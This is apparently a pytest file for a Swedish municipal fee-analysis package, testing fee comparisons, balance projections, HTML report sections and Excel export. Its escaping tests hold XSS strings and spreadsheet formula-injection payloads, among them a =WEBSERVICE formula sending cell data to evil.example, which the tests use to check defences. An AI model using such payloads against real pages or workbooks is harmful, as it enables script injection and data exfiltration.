"""Tests of the fee report (kuanalysis.reports.feesections), the workbook (kuanalysis.reports.xlsx)
and the chart functions they use. Expected values are worked out by hand in the comments."""

from __future__ import annotations

import datetime as dt
import io
import math
import re
import shutil

import fees_fixtures as F
import matplotlib
import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from kuanalysis import publish
from kuanalysis.checks.findings import Finding
from kuanalysis.checks.rules import RULES
from kuanalysis.data.table import Table
from kuanalysis.errors import ParameterError, PathError, ScenarioError
from kuanalysis.fees.balance import balance_overview
from kuanalysis.fees.keys import IMPLIED_KEY, key_vs_population
from kuanalysis.fees.scenarios import FEE_COLUMNS, Balance, PostSpec, Scenario
from kuanalysis.paths import project_root, scenarios_dir
from kuanalysis.reports import charts, feedata, feesections, feetables, fmt, html, xlsx

matplotlib.use("Agg")  # tests only; notebooks keep the inline backend


def lines(rows, year=2025):
    """A fees frame in the ``kuanalysis fees`` contract from (scenario, kod, kommun, post, kr,
    fakt), all in ``year``."""
    return pd.DataFrame([(*row, year) for row in rows], columns=FEE_COLUMNS)


# Two scenarios, two municipalities, two posts.
# forslag-2025: post A invoiced (X 60, Y 40), post B not invoiced (X 7, Y 3).
# alt: post A invoiced (X 50, Y 50), post B invoiced (X 7, Y 3).
FEES = lines(
    [
        ("forslag-2025", "0001", "X", "A", 60, True),
        ("forslag-2025", "0002", "Y", "A", 40, True),
        ("forslag-2025", "0001", "X", "B", 7, False),
        ("forslag-2025", "0002", "Y", "B", 3, False),
        ("alt", "0001", "X", "A", 50, True),
        ("alt", "0002", "Y", "A", 50, True),
        ("alt", "0001", "X", "B", 7, True),
        ("alt", "0002", "Y", "B", 3, True),
    ]
)


def cells(markup: str, tag: str = "td") -> list[str]:
    """The texts of every ``<tag>`` in markup, in order."""
    return re.findall(rf"<{tag}[^>]*>(.*?)</{tag}>", markup)


def row_of(markup: str, label: str) -> list[str]:
    """The data cells of the table row whose header cell is ``label``."""
    m = re.search(rf'<tr><th scope="row">{re.escape(label)}</th>(.*?)</tr>', markup)
    assert m, f"ingen rad {label!r}"
    return cells(m.group(1))


@pytest.fixture
def report():
    return F.report()


FORSLAG_2025 = "data/raw/000-pks-2024/finansiering-2025.csv"


# ---------------------------------------------------------------------------------------
# Loading: the shipped data, and parameters that do not fit
# ---------------------------------------------------------------------------------------
SHIPPED_SCENARIOS = [
    "forslag-2025",
    "avtal",
    "befolkning-2024",
    "iot-digitalisering-text",
    "socialchefer-15-mars",
    "tre-ar-2-procent",
]


def test_fee_report_loads_the_shipped_data():
    # the shipped proposal and scenarios; an analyst may have added others beside them
    r = feedata.FeeReport.load(forslag=FORSLAG_2025)
    names = [s.name for s in r.scenarios]
    assert names[0] == "forslag-2025" and set(names) >= set(SHIPPED_SCENARIOS)
    assert len(r.fees) == len(names) * 13 * 16 and list(r.fees.columns) == FEE_COLUMNS
    # the years ahead: four years for the shipped scenarios but tre-ar-2-procent's three
    rows = r.fees_years.groupby("scenario").size()
    for name in SHIPPED_SCENARIOS:
        assert rows[name] == (3 if name == "tre-ar-2-procent" else 4) * 13 * 16, name
    assert r.year == 2025  # (r.other: another year's proposal, if an analyst added one)
    assert r.date == "2024-12-31"
    shown = publish.collect_sources(r.inputs)
    assert "scenarios/avtal.yaml" in shown
    assert "data/raw/002-pks-2016/pks-2016-social-valfard.csv" in shown
    assert "data/raw/000-pks-2024/finansiering-2025.yaml" in shown
    assert not any("ovriga" in p for p in shown)  # read only what the report uses


def test_fee_report_refuses_bad_paths_and_dates_together():
    with pytest.raises(ParameterError) as exc:
        feedata.FeeReport.load(scenarier="finns-inte", befolkningsdatum="2024-12-31")
    assert exc.value.errors == [
        "parametern scenarier: finns-inte finns inte i projektet",
        "parametern befolkningsdatum ska se ut som befolkning_ÅÅÅÅ_12_31 (eller vara tom), "
        "fick '2024-12-31'",
    ]
    with pytest.raises(ParameterError, match="befolkning_1999_12_31 finns inte"):
        feedata.FeeReport.load(befolkningsdatum="befolkning_1999_12_31")
    with pytest.raises(ParameterError, match="saknar tabellen pks-2016-social-valfard"):
        feedata.FeeReport.load(historik="data/raw/000-pks-2024")


def test_fee_report_without_a_proposal_file(tmp_path, monkeypatch):
    # a project whose scenario folder is "scen" and whose data are the shipped data
    (tmp_path / "data").symlink_to(project_root() / "data")
    (tmp_path / "scen").mkdir()
    # avtal starts from forslag-2025, which is not in the folder: named, nothing shown
    shutil.copy(scenarios_dir() / "avtal.yaml", tmp_path / "scen" / "avtal.yaml")
    monkeypatch.setenv("KUANALYSIS_ROOT", str(tmp_path))
    with pytest.raises(ScenarioError, match="forslag-2025.yaml saknas"):
        feedata.FeeReport.load(scenarier="scen", forslag=FORSLAG_2025)
    # with no scenario at all the proposal as printed is the base
    (tmp_path / "scen" / "avtal.yaml").unlink()
    r = feedata.FeeReport.load(scenarier="scen", forslag=FORSLAG_2025)
    assert [s.name for s in r.scenarios] == ["förslaget 2025"]
    assert r.scenarios[0].balance.opening == 0  # the printed table says nothing about it


def test_fee_report_refuses_a_folder_outside_the_project(tmp_path):
    with pytest.raises(PathError, match="parametern scenarier.*utanför projektmappen"):
        feedata.FeeReport.load(scenarier=str(tmp_path))
    with pytest.raises(PathError, match="parametern historik.*utanför projektmappen"):
        feedata.FeeReport.load(historik="../../etc")


@pytest.mark.parametrize(
    "values, message",
    [
        ({"balanskonto_kr": -2, "excelfil": "a.xlsx"}, "balanskonto_kr"),
        ({"balanskonto_kr": True, "excelfil": "a.xlsx"}, "balanskonto_kr"),
        ({"balanskonto_kr": 1.5, "excelfil": "a.xlsx"}, "balanskonto_kr"),
        ({"balanskonto_kr": 0, "excelfil": "../a.xlsx"}, "excelfil"),
        ({"balanskonto_kr": 0, "excelfil": "a.csv"}, "excelfil"),
    ],
)
def test_check_parameters_refuses(values, message):
    with pytest.raises(ParameterError, match=message):
        feedata.check_parameters(**values)


def test_check_parameters_accepts_the_defaults():
    assert (
        feedata.check_parameters(balanskonto_kr=20_500_000, excelfil="avgifter-2025.xlsx") is None
    )
    # the notebook's defaults: the scenarios' own balance, the workbook named by the year
    assert feedata.check_parameters(balanskonto_kr=-1, excelfil="") is None


def test_population_date():
    assert feedata.population_date("befolkning_2024_12_31") == "2024-12-31"
    with pytest.raises(ValueError):
        feedata.population_date("2024-12-31")


def test_allocate_all_stacks_the_scenarios(report):
    out = feedata.allocate_all(F.scenarios(), F.matrix(), F.population())
    # 2 scenarios x 2 years x 2 posts x 2 municipalities; alt's MEDLEM 50/50 of 1 000
    assert len(out) == 16 and list(out.columns) == FEE_COLUMNS
    alt = out[(out["scenario"] == "alt") & (out["post"] == F.MEDLEM)]
    assert alt["belopp_kr"].tolist() == [500, 500, 500, 500]
    assert alt["år"].tolist() == [2025, 2025, 2026, 2026]
    # the report's fees are the first year's; fees_years every year's
    assert set(report.fees["år"]) == {2025} and len(report.fees_years) == 16
    assert list(feedata.allocate_all([], F.matrix(), F.population()).columns) == FEE_COLUMNS


# ---------------------------------------------------------------------------------------
# Comparison of scenarios
# ---------------------------------------------------------------------------------------
def test_comparison_by_municipality_counts_only_invoiced_posts():
    c = feetables.scenario_comparison(FEES)
    # forslag: X 60, Y 40 (B not invoiced), Summa 100; alt: X 57, Y 53, Summa 110
    assert list(c.columns) == ["forslag-2025", "alt"]
    assert list(c.index) == ["X", "Y", "Summa"]
    assert c.loc["X"].tolist() == [60, 57]
    assert c.loc["Y"].tolist() == [40, 53]
    assert c.loc["Summa"].tolist() == [100, 110]


def test_comparison_by_post_and_difference():
    c = feetables.scenario_comparison(FEES, by="post")
    # A: 100 in both; B: 0 (not invoiced) in forslag, 10 in alt
    assert c.loc["A"].tolist() == [100, 100]
    assert c.loc["B"].tolist() == [0, 10]
    d = feetables.difference_to_base(c)
    assert list(d.columns) == ["alt"]
    assert d["alt"].tolist() == [0, 10, 10]
    with pytest.raises(ValueError, match="saknar scenariot"):
        feetables.difference_to_base(c, base="finns-inte")
    with pytest.raises(ValueError):
        feetables.scenario_comparison(FEES, by="år")


def test_nonzero_keeps_what_differs():
    frame = pd.DataFrame({"a": [0, 0, 0], "b": [0, 5, 0], "c": [1, 0, 0]}, index=["x", "y", "z"])
    # column a is all zero; row z is all zero
    assert feetables.nonzero(frame).to_dict() == {"b": {"x": 0, "y": 5}, "c": {"x": 1, "y": 0}}
    assert list(feetables.nonzero(frame, rows=False).index) == ["x", "y", "z"]


def test_share_against_population():
    pop = pd.DataFrame({"kommun_kod": ["0001", "0002"], "befolkning_2024_12_31": [300, 100]})
    s = feetables.share_vs_population(FEES, pop)
    # population 300 of 400 = 75 %, 100 of 400 = 25 %; forslag 60/100, 40/100; alt 57/110
    assert s.loc["0001", "kommun"] == "X"
    assert s.loc["0001", "befolkning_andel"] == pytest.approx(75.0)
    assert s.loc["0002", "befolkning_andel"] == pytest.approx(25.0)
    assert s.loc["0001", "forslag-2025"] == pytest.approx(60.0)
    assert s.loc["0002", "alt"] == pytest.approx(100 * 53 / 110)


# ---------------------------------------------------------------------------------------
# History
# ---------------------------------------------------------------------------------------
def test_history_matches_by_code_keeps_printed_totals_and_blanks():
    # Social printed X, Y; administration printed Y, X (other order); a blank in 2016.
    social = F._by_year("soc", ["X", "Y"], [[10, 20], [30, 40]], [40, 61])  # 61: printed
    admin = F._by_year("adm", ["Y", "X"], [[None, 5], [1, 2]], [1, 7])
    meta = {
        "table": "m",
        "document": "t.txt",
        "kind": "fee_matrix",
        "unit": "kr",
        "columns": [
            {"label": "Grundfinansiering Social välfärd", "key": "g"},
            {"label": "Medlemsavgift Kommunal utveckling", "key": "m"},
            {"label": "Summa", "key": "summa", "role": "total"},
        ],
        "rows": [
            {"label": "X", "role": "kommun", "kommun_kod": "0001"},
            {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
            {"label": "Summa", "role": "total"},
        ],
    }
    matrix = Table.from_rows(
        meta, {"X": [1500, 2500, 4000], "Y": [500, 1500, 2000], "Summa": [2000, 4000, 6000]}
    )
    h = feetables.history_table(social, admin, matrix, 2025)
    assert list(h.index) == ["X", "Y", "Summa"]
    assert h.loc["X", "Social välfärd 2016"] == 10 and h.loc["Y", "Social välfärd 2018"] == 40
    assert h.loc["Summa", "Social välfärd 2018"] == 61  # the printed total
    assert h.loc["X", "Administration 2016"] == 1  # X's row, printed second
    assert math.isnan(h.loc["Y", "Administration 2016"])  # blank stays blank
    assert h.loc["X", "Grundfinansiering social välfärd 2025"] == pytest.approx(1.5)  # kr->tkr
    assert h.loc["Summa", "Medlemsavgift 2025"] == pytest.approx(4.0)


# ---------------------------------------------------------------------------------------
# Balance account
# ---------------------------------------------------------------------------------------
def _scenario(name, from_balance_kr, years=(2025, 2026, 2027)):
    posts = {"A": PostSpec("A", from_balance_kr, IMPLIED_KEY, False, None, from_balance_kr > 0, 1)}
    return Scenario(
        name,
        f"{name}.yaml",
        "prov",
        posts,
        years=years,
        balance=Balance(20_500_000, {2025: 10_000_000}),
    )


def test_balance_overview_runway():
    closing, summary = balance_overview(
        [_scenario("tar", 9_000_000), _scenario("tar-inte", 0, (2025, 2026))]
    )
    # 20,5 mnkr − 9 − 10 (2025 payout) = 1,5; then −7,5; then −16,5
    assert closing["tar"].tolist() == [1_500_000, -7_500_000, -16_500_000]
    # nothing taken: 20,5 − 10 = 10,5 and stays there; its years end in 2026 (NaN in 2027)
    assert closing["tar-inte"].tolist()[:2] == [10_500_000] * 2
    assert math.isnan(closing.loc[2027, "tar-inte"])
    assert summary.loc["tar", "tar_slut"] == 2026
    assert summary.loc["tar-inte", "tar_slut"] is None
    assert summary.loc["tar", "från_balanskonto_kr"] == 9_000_000
    assert summary["sista_år"].tolist() == [2027, 2026]
    # another opening balance for all: 30 mnkr − 9 − 10 = 11; 2; −7
    closing, summary = balance_overview([_scenario("tar", 9_000_000)], start_kr=30_000_000)
    assert closing["tar"].tolist() == [11_000_000, 2_000_000, -7_000_000]
    assert summary.loc["tar", "tar_slut"] == 2027


def test_runs_out_and_balance_start():
    assert feetables.runs_out(2026, 2034) == "2026"
    assert feetables.runs_out(None, 2034) == "inte före 2035"
    # the base scenario's own opening balance, or the one the report is given
    assert feesections.balance_start(F.report()) == "20,5\u00a0mnkr"
    assert feesections.balance_start(F.report(), 18_250_000) == "18,3\u00a0mnkr"


def test_group_identical_columns():
    frame = pd.DataFrame({"a": [1, 2], "b": [1, 3], "c": [1, 2]})
    g = feetables.group_identical_columns(frame)
    assert list(g.columns) == ["a, c", "b"]
    assert g["b"].tolist() == [1, 3]


# ---------------------------------------------------------------------------------------
# Findings: counted, listed
# ---------------------------------------------------------------------------------------
def _finding(rule, status, row="r", column="c", table="t"):
    return Finding(rule, "d", table, row, column, None, None, None, status, "s")


def test_findings_overview_counts_and_sentences():
    o = feetables.findings_overview(
        [
            _finding("fee_row_total", "avrundning"),
            _finding("fee_not_summed", "oklar"),
            _finding("fee_row_total", "avrundning"),
            _finding("fee_row_total", "avvikelse"),
        ]
    )
    # the registry's order: fee_not_summed before fee_row_total
    assert o["Antal"].tolist() == [1, 2, 1]
    assert o["Kontroll"].iloc[0] == RULES["fee_not_summed"].sentence
    assert o["Kontroll"].iloc[0].startswith("Posten står i tabellen men ingår inte i kolumnen")
    # the status meanings are the registry's (checks/rules.py), one text for every report
    assert o["Status"].tolist()[1:] == [
        "avrundning: skillnaden ryms i avrundningen, inget fel",
        "avvikelse: fel som inte förklaras av avrundning",
    ]


def test_findings_frame_orders_by_rule_then_table_position():
    t = F.matrix()
    found = [
        _finding("fee_row_total", "avrundning", "Y", "Summa", t.id),
        _finding("fee_not_summed", "oklar", "Summa", F.GRUND, t.id),
        _finding("fee_row_total", "avvikelse", "X", "Summa", t.id),
        _finding("ambiguity", "oklar", "X", "", t.id),
        _finding("fee_row_total", "avvikelse", "X", "Summa", "annan-tabell"),
    ]
    frame, marks = feetables.findings_frame(found, t)
    # ambiguity comes before the fee rules in the registry; rows X before Y as in the table
    assert frame[["Rad", "Kolumn", "Status"]].values.tolist() == [
        ["X", "", "oklar"],
        ["Summa", F.GRUND, "oklar"],
        ["X", "Summa", "avvikelse"],
        ["Y", "Summa", "avrundning"],
    ]
    assert frame["Tryckt"].isna().all()  # nothing to compare: blank, never 0
    assert marks["Status"].tolist() == frame["Status"].tolist()
    assert (marks.drop(columns="Status") == "").all().all()


def test_findings_of_the_tiny_proposal(report):
    # the Summa column adds up MEDLEM only: GRUND (100 kr) is shown but not summed; the two
    # posts split 60:40 and 70:30, so neither follows the other's key: each has its own
    assert [(f.rule, f.column, f.reported) for f in report.findings] == [
        ("fee_own_key", F.GRUND, 100),
        ("fee_not_summed", F.GRUND, 100),
        ("fee_own_key", F.MEDLEM, 1000),
    ]
    summary = feesections.findings_summary(report)
    assert cells(summary) == [
        RULES["fee_not_summed"].sentence,
        "oklar: oklart, behöver förklaras",
        "1",
        RULES["fee_own_key"].sentence,
        "oklar: oklart, behöver förklaras",
        "2",
    ]
    # the last column: no cell explains these findings
    assert cells(feesections.findings_list(report)) == [
        "Summa",
        F.GRUND,
        "100\u00a0kr",
        "–",
        "–",
        "oklar",
        "",
        "Summa",
        F.MEDLEM,
        "1\u00a0000\u00a0kr",
        "–",
        "–",
        "oklar",
        "",
        "Summa",
        F.GRUND,
        "100\u00a0kr",
        "–",
        "–",
        "oklar",
        "",
    ]


# ---------------------------------------------------------------------------------------
# Keys against population
# ---------------------------------------------------------------------------------------
def test_key_vs_population_two_groups():
    meta = {
        "table": "m",
        "document": "t.txt",
        "kind": "fee_matrix",
        "unit": "kr",
        "columns": [
            {"label": "A", "key": "a"},
            {"label": "B", "key": "b"},
            {"label": "Summa", "key": "summa", "role": "total"},
        ],
        "rows": [
            {"label": "X", "role": "kommun", "kommun_kod": "0001"},
            {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
            {"label": "Summa", "role": "total"},
        ],
    }
    # A splits 70/30, B only X (Y blank). Population 2023: 60/40, 2024: 75/25.
    matrix = Table.from_rows(
        meta, {"X": [70, 50, 120], "Y": [30, None, 30], "Summa": [100, 50, 150]}
    )
    pop = pd.DataFrame(
        {
            "kommun_kod": ["0001", "0002"],
            "befolkning_2023_12_31": [60, 40],
            "befolkning_2024_12_31": [75, 25],
        }
    )
    summary, dev = key_vs_population(matrix, pop)
    # A: 2023 off by 10 pp, 2024 off by 5 pp -> 2024, 5 pp; X 70 − 75 = −5, Y 30 − 25 = +5
    assert summary.loc["Nyckel 1"].tolist() == ["A", 2, "2024-12-31", pytest.approx(5.0)]
    assert dev.loc["0001", "Nyckel 1"] == pytest.approx(-5.0)
    assert dev.loc["0002", "Nyckel 1"] == pytest.approx(5.0)
    # B: only X takes part: 100 % against 100 % of the participants' population
    assert summary.loc["Nyckel 2", "Kommuner"] == 1
    assert dev.loc["0001", "Nyckel 2"] == pytest.approx(0.0)
    assert math.isnan(dev.loc["0002", "Nyckel 2"])


def test_key_panels_and_key_sections(report):
    # MEDLEM 600/400 against population 75/25: X −15 pp, Y +15 pp; GRUND 70/30: −5, +5.
    # 0,6 − 0,7 is far beyond 1/1 000 + 1/100: two groups of one post each.
    groups = [[F.MEDLEM], [F.GRUND]]
    summary, dev = key_vs_population(report.matrix, report.population, groups)
    panels = feetables.key_panels(summary, dev, groups)
    assert list(panels) == ["Nyckel 1\n1 post, mot 2024-12-31", "Nyckel 2\n1 post, mot 2024-12-31"]
    assert panels["Nyckel 1\n1 post, mot 2024-12-31"].tolist() == [
        pytest.approx(-15),
        pytest.approx(15),
    ]
    table = feesections.key_groups_table(report)
    assert row_of(table, "Nyckel 1") == [F.MEDLEM, "2", "2024-12-31", "15,00\u00a0procentenheter"]
    assert row_of(table, "Nyckel 2")[-1] == "5,00\u00a0procentenheter"
    axes = feesections.key_chart(report)
    assert [ax.get_title(loc="left") for ax in axes] == list(panels)
    assert [t.get_text() for t in axes[0].get_yticklabels()] == ["X", "Y"]


# ---------------------------------------------------------------------------------------
# The sections of avgifter-2025 on the tiny report
# ---------------------------------------------------------------------------------------
def test_key_figures(report):
    boxes = feesections.key_figures(report, 20_500_000)
    assert isinstance(boxes, html.Markup)
    # invoiced 1 000 kr = 0,0 mnkr; GRUND not summed: 1 of 2 posts; the proposal takes
    # 100 kr a year: 20,5 mnkr − 10 mnkr − 100 kr stays above zero through 2026, its last
    # year; one alternative
    assert cells(boxes, "b") == ["0,0\u00a0mnkr", "1 av 2", "inte före 2027", "1"]
    assert "<div>Fakturerat 2025 enligt förslaget<b>" in boxes


def test_scenario_list_and_descriptions(report):
    frame = feetables.scenario_descriptions(report.scenarios)
    assert frame.values.tolist() == [["forslag-2025", "Förslaget."], ["alt", "Ett alternativ."]]
    # both keep the printed totals (MEDLEM 1 000, GRUND 100): nothing differs
    assert cells(feesections.scenario_list(report)) == [
        "forslag-2025",
        "Förslaget.",
        "inga",
        "alt",
        "Ett alternativ.",
        "inga",
    ]


def test_comparison_and_difference_tables(report):
    # invoiced: forslag X 600, Y 400; alt X 500 + 70 = 570, Y 500 + 30 = 530
    by_kommun = feesections.comparison_table(report)
    assert 'id="per-kommun"' in by_kommun
    assert row_of(by_kommun, "X") == ["600\u00a0kr", "570\u00a0kr"]
    assert row_of(feesections.comparison_table(report, by="post"), F.GRUND) == [
        "0\u00a0kr",
        "100\u00a0kr",
    ]
    diff = feesections.difference_table(report)
    assert row_of(diff, "X") == ["\u221230\u00a0kr"] and row_of(diff, "Y") == ["+130\u00a0kr"]
    # by post only the posts that differ: MEDLEM (1 000 in both) is left out
    by_post = feesections.difference_table(report, by="post")
    assert 'id="per-post-skillnad"' in by_post
    assert cells(by_post, "th")[2:] == [F.GRUND, "Summa"]


def test_difference_chart(report):
    ax = feesections.difference_chart(report)
    # X −30 kr, Y +130 kr, in tkr
    assert [b.get_width() for b in ax.patches] == [pytest.approx(-0.03), pytest.approx(0.13)]
    only_proposal = feedata.FeeReport(F.matrix(), F.population(), F.history(), F.scenarios()[:1])
    assert feesections.difference_chart(only_proposal) is None


def test_shares_table(report):
    table = feesections.shares_table(report)
    assert "Folkmängd 2024-12-31" in cells(table, "th")
    # X: 300 of 400 people; 600 of 1 000 kr; 570 of 1 100 kr = 51,82 %
    assert row_of(table, "X") == ["75,00\u00a0%", "60,00\u00a0%", "51,82\u00a0%"]


def test_balance_table_and_chart(report):
    # forslag takes GRUND's 100 kr a year; alt takes nothing
    # 20 500 000 − 10 000 000 (2025 payout) − 100 = 10 499 900; 2026: − 100 more
    table = feesections.balance_table(report, 20_500_000)
    assert row_of(table, "forslag-2025") == [
        "100\u00a0kr",
        "10\u00a0499\u00a0900\u00a0kr",
        "10\u00a0499\u00a0800\u00a0kr",
        "inte före 2027",
    ]
    assert row_of(table, "alt") == [
        "0\u00a0kr",
        "10\u00a0500\u00a0000\u00a0kr",
        "10\u00a0500\u00a0000\u00a0kr",
        "inte före 2027",
    ]
    assert re.findall(r'<th scope="col">(.*?)</th>', table) == [
        "Alternativ",
        "Tas från balanskontot första året",
        "Vid slutet av 2025",
        "Vid slutet av 2026",
        "Första året under noll",
    ]
    # 10 000 050 − 10 000 000 (2025 payout) − 100 = −50: below zero in 2025
    assert row_of(feesections.balance_table(report, 10_000_050), "forslag-2025")[-1] == "2025"
    # without an argument the scenarios' own opening balance (20,5 mnkr) is used
    assert feesections.balance_table(report) == table
    ax = feesections.balance_chart(report, 10_000_050)
    assert ax.get_title(loc="left") == "Balanskontot vid årets slut 2025–2026 (mnkr)"
    assert [line.get_label() for line in ax.get_lines()[:2]] == ["forslag-2025", "alt"]


def test_history_section(report):
    table = feesections.history(report)
    # X: social 10 / 20, GRUND 70 kr = 0 tkr; administration 1 / 2 (printed second); MEDLEM
    # 600 kr = 1 tkr. Y: administration 2016 blank
    assert row_of(table, "X") == ["10", "20", "0", "1", "2", "1"]
    assert row_of(table, "Y")[3] == "–"


def test_workbook_link(report):
    assert feesections.workbook_link(report, "avgifter-2025.xlsx") == (
        '<p><a href="avgifter-2025.xlsx">Ladda ner avgifter-2025.xlsx</a> (5 blad).</p>'
    )
    # Jämförelse, År 2025, År 2026 and one sheet per scenario
    assert feedata.workbook_name(report) == "avgifter-2025.xlsx"
    assert feedata.workbook_name(report, "egen.xlsx") == "egen.xlsx"


# ---------------------------------------------------------------------------------------
# Hostile names and descriptions never become markup
# ---------------------------------------------------------------------------------------
SCRIPT = "<script>alert(1)</script>"
IMG_NAME = "<img src=x onerror=alert(1)>"
IMG_DESCRIPTION = '<img src="https://evil.example/x.png"> Som förslaget.'


def test_hostile_names_and_descriptions_are_text_in_every_section():
    r = F.report(x_name=SCRIPT, alt_name=IMG_NAME, alt_description=IMG_DESCRIPTION)
    shown = html.join(
        [
            feesections.key_figures(r, 20_500_000),
            feesections.findings_summary(r),
            feesections.findings_list(r),
            feesections.key_groups_table(r),
            feesections.scenario_list(r),
            feesections.comparison_table(r),
            feesections.difference_table(r),
            feesections.comparison_table(r, by="post"),
            feesections.difference_table(r, by="post"),
            feesections.shares_table(r),
            feesections.balance_table(r, 20_500_000),
            feesections.history(r),
        ]
    )
    assert "<script" not in shown and "<img" not in shown
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown
    assert "&lt;img src=&quot;https://evil.example/x.png&quot;&gt; Som förslaget." in shown


# ---------------------------------------------------------------------------------------
# Workbook
# ---------------------------------------------------------------------------------------
def _scenarios():
    return [
        Scenario("forslag-2025", "f.yaml", "Förslaget.", {}),
        Scenario("alt", "a.yaml", "Ett alternativ.", {}),
    ]


def test_workbook(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    data = xlsx.workbook(FEES, _scenarios())
    assert isinstance(data, bytes) and list(tmp_path.iterdir()) == []  # nothing written
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Jämförelse", "År 2025", "forslag-2025", "alt"]
    cmp_ = wb["Jämförelse"]
    # header on row 3: Kommun, forslag-2025, alt; X on row 4: 60 and 57 (see FEES)
    assert [c.value for c in cmp_[3]][:3] == ["Kommun", "forslag-2025", "alt"]
    assert [c.value for c in cmp_[4]][:3] == ["X", 60, 57]
    assert cmp_["B4"].number_format == xlsx.XLSX_KR
    # the differences block: header after the 3 rows + a blank line; X: 57 − 60 = −3
    diff_rows = {r[0].value: [c.value for c in r[1:2]] for r in cmp_.iter_rows(min_row=8)}
    assert diff_rows["X"] == [-3] and diff_rows["Summa"] == [10]
    s = wb["forslag-2025"]
    header = [c.value for c in s[4]]
    assert header[:4] == ["Kommun", "A", "B", "Fakturerat"]
    x = [c.value for c in s[5]]
    assert x[:4] == ["X", 60, 7, 60]  # Fakturerat leaves out the not-invoiced B
    assert s["A2"].value == "Förslaget."
    found = [c.value for c in s["A"] if isinstance(c.value, str) and c.value.startswith("Fakt")]
    assert found == ["Faktureras inte: B"]
    assert s.column_dimensions["A"].width >= 14


def test_scenario_sheet():
    frame, not_invoiced = xlsx.scenario_sheet(FEES[FEES["scenario"] == "forslag-2025"])
    # X: A 60, B 7, invoiced 60 (B not invoiced); Summa: A 100, B 10, invoiced 100
    assert frame.loc["X"].tolist() == [60, 7, 60]
    assert frame.loc["Summa"].tolist() == [100, 10, 100]
    assert list(frame.columns) == ["A", "B", "Fakturerat"] and not_invoiced == ["B"]


def test_sheet_title():
    assert xlsx.sheet_title("a/b:c[d]*e?f\\g") == "a-b-c-d--e-f-g"
    assert len(xlsx.sheet_title("x" * 40)) == 31


def test_every_sheet_is_set_up_to_print(tmp_path):
    (tmp_path / "w.xlsx").write_bytes(xlsx.workbook(FEES, _scenarios()))
    wb = load_workbook(tmp_path / "w.xlsx")  # read back: what a spreadsheet program sees
    assert len(wb.sheetnames) == 4
    for ws in wb:
        setup = ws.page_setup
        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert setup.paperSize == 9  # A4 in the xlsx format
        # the heading row: row 3 on the comparison and year sheets, row 4 on a scenario's
        row = 4 if ws.title in ("forslag-2025", "alt") else 3
        assert ws.print_title_rows == f"${row}:${row}", ws.title  # as read back
        assert ws[f"A{row}"].value == "Kommun"
        assert ws.oddFooter.left.text == "&A"  # the sheet's name
        assert ws.oddFooter.right.text == "Sida &P av &N"


def test_scenario_names_sharing_their_first_31_characters_get_sheets_of_their_own(tmp_path):
    first = "socialchefer-15-mars-med-uppräkning-a"  # 37 characters
    second = "socialchefer-15-mars-med-uppräkning-b"  # the same first 36
    assert first[:31] == second[:31]
    fees_ = FEES.assign(scenario=FEES["scenario"].replace({"forslag-2025": first, "alt": second}))
    data = xlsx.workbook(
        fees_, [Scenario(first, "a.yaml", "A.", {}), Scenario(second, "b", "B.", {})]
    )
    (tmp_path / "w.xlsx").write_bytes(data)
    wb = load_workbook(tmp_path / "w.xlsx")
    # 31 characters at most: 27 of the name, then " (1)" and " (2)"
    assert wb.sheetnames[2:] == [
        "socialchefer-15-mars-med-up (1)",
        "socialchefer-15-mars-med-up (2)",
    ]
    assert all(len(n) <= 31 for n in wb.sheetnames)
    # the full name in A1 of each
    assert wb.sheetnames[2:] and wb[wb.sheetnames[2]]["A1"].value.startswith(f"Scenario {first}:")
    assert wb[wb.sheetnames[3]]["A1"].value.startswith(f"Scenario {second}:")


def test_unique_sheet_title_compares_without_case_and_keeps_short_names():
    taken: set[str] = set()
    assert xlsx.unique_sheet_title("Jämförelse", taken) == "Jämförelse"
    assert xlsx.unique_sheet_title("jämförelse", taken) == "jämförelse (1)"  # Excel: same name
    assert xlsx.unique_sheet_title("a/b", taken) == "a-b"
    assert xlsx.unique_sheet_title("'citat'", taken) == "citat"  # no apostrophe at the ends
    assert xlsx.unique_sheet_title("x" * 31, taken) == "x" * 31  # exactly 31: kept
    assert xlsx.unique_sheet_title("x" * 32, taken) == "x" * 27 + " (1)"


FORMULAS = [
    '=WEBSERVICE("https://evil.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_put_text_never_writes_a_formula(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for i, text in enumerate(FORMULAS, 1):
        xlsx.put_text(ws, i, 1, text)
    xlsx.put_text(ws, len(FORMULAS) + 1, 1, "klocka\x07")  # a character xlsx cannot hold
    xlsx.put_number(ws, len(FORMULAS) + 2, 1, 3.0, xlsx.XLSX_KR)
    wb.save(tmp_path / "t.xlsx")
    again = load_workbook(tmp_path / "t.xlsx")
    cells_ = [again.active.cell(i, 1) for i in range(1, len(FORMULAS) + 1)]
    # XML reads a carriage return as a line feed; otherwise every text is kept as it was
    assert [c.value for c in cells_] == [t.replace("\r", "\n") for t in FORMULAS]
    assert {c.data_type for c in cells_} == {"s"}
    assert all(c.quotePrefix for c in cells_)
    assert again.active.cell(len(FORMULAS) + 1, 1).value == "klocka\ufffd"
    number = again.active.cell(len(FORMULAS) + 2, 1)
    assert (number.value, number.data_type, number.number_format) == (3, "n", xlsx.XLSX_KR)
    import zipfile

    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_workbook_hostile_texts_stay_text(tmp_path):
    evil = '=WEBSERVICE("https://evil.example/")'
    fees_ = FEES.assign(
        kommun=FEES["kommun"].replace({"X": "=1+1"}),
        post=FEES["post"].replace({"A": "@A"}),
        scenario=FEES["scenario"].replace({"alt": "-alt"}),
    )
    data = xlsx.workbook(fees_, [Scenario("-alt", "a.yaml", evil, {})])
    (tmp_path / "w.xlsx").write_bytes(data)
    wb = load_workbook(tmp_path / "w.xlsx")
    texts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.data_type for c in texts} == {"s"}
